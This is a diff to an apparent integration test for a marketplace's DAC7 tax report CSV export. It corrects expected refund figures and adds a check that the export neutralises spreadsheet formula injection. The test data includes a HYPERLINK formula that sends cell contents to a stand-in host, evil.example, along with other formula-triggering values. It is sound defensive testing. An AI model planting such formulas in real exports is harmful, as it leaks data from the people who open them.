@@ -1,5 +1,8 @@
 import { DAC7_DETAIL_LABELS, DAC7_YEAR_MESSAGE, WORKSHOP_TOTAL_CENTS } from '@ptits-mitrons/domain';
 import { DAC7_COLUMNS } from '../../../backend/src/payout-details/dac7-report.service';
+import { eq } from 'drizzle-orm';
+import { merchantPayoutDetails } from '../../../backend/src/payout-details/payout-details.schema';
+import { merchantRequests } from '../../../backend/src/merchants/merchants.schema';
 import { payoutBatches, payoutLines } from '../../../backend/src/payouts/payouts.schema';
 import type { TestApp } from '../../support/app';
 import { approvedMerchant, confirmedWorkshop, createSpaceApp } from '../merchant-space/support';
@@ -143,15 +146,16 @@ describe('The yearly platform report (GET /api/admin/reports/dac7)', () => {
       amount_q1: '390.00',
       fees_q1: ((3 * WORKSHOP_TOTAL_CENTS - 39000) / 100).toFixed(2),
       taxes_q1: '0.00',
-      services_q2: '1',
+      // The debt takes back the refunded workshop: one service fewer, and its fee (180 − 150 = 30 €) the platform never kept.
+      services_q2: '0',
       amount_q2: '-30.00',
-      fees_q2: '60.00',
+      fees_q2: '30.00',
       services_q3: '0',
       amount_q3: '0.00',
       services_q4: '0',
-      services_total: '4',
+      services_total: '3',
       amount_total: '360.00',
-      fees_total: '210.00',
+      fees_total: '180.00',
       missing: '',
     });
     expect(p).toMatchObject({
@@ -170,6 +174,36 @@ describe('The yearly platform report (GET /api/admin/reports/dac7)', () => {
     const [, ...rows2025] = parseCsv((await report(2025)).text.slice(1));
     expect(rows2025.map((row) => [row[0], row[header.indexOf('amount_q4')]])).toEqual([[company.id, '110.00']]);
     expect(parseCsv((await report(2024)).text.slice(1))).toHaveLength(1);
+  });
+
+  it('writes text cells a spreadsheet would run as formulas with a leading apostrophe, and amounts as numbers', async () => {
+    const typed = await approvedMerchant(t, { email: 'dac7.formule@example.fr', establishment_name: 'Eee Formules' });
+    await t.http().put(`/api/merchant-space/${typed.token}/payout-details`).send(companyForm()).expect(200);
+    await t.db
+      .update(merchantPayoutDetails)
+      .set({ legalName: '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")', addressLine: '+33 rue du Calcul', city: '-Dijon', accountHolder: '@SUM(A1:A9)', postalCode: '\t21000' })
+      .where(eq(merchantPayoutDetails.merchantRequestId, typed.id));
+    await t.db.update(merchantRequests).set({ establishmentName: '\rEee Formules' }).where(eq(merchantRequests.id, typed.id));
+    const [workshop] = await batch(new Date('2027-02-01T10:00:00Z'), [{ merchant: typed.id, amount: 12000 }]);
+    await batch(new Date('2027-05-01T10:00:00Z'), [{ merchant: typed.id, kind: 'refund_debt', amount: -12000, workshop }]);
+
+    const [header, row] = parseCsv((await report(2027)).text.slice(1));
+    const record = Object.fromEntries(header.map((column, i) => [column, row[i]]));
+    expect(record).toMatchObject({
+      establishment_name: "'\rEee Formules",
+      legal_name: `'=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")`,
+      address_line: "'+33 rue du Calcul",
+      city: "'-Dijon",
+      postal_code: "'\t21000",
+      account_holder: "'@SUM(A1:A9)",
+      amount_q1: '120.00',
+      amount_q2: '-120.00',
+      fees_q2: '-60.00',
+      services_q2: '-1',
+      amount_total: '0.00',
+      services_total: '0',
+      fees_total: '0.00',
+    });
   });
 
   it('lists the sellers paid that year and the active artisans whose details the report lacks', async () => {
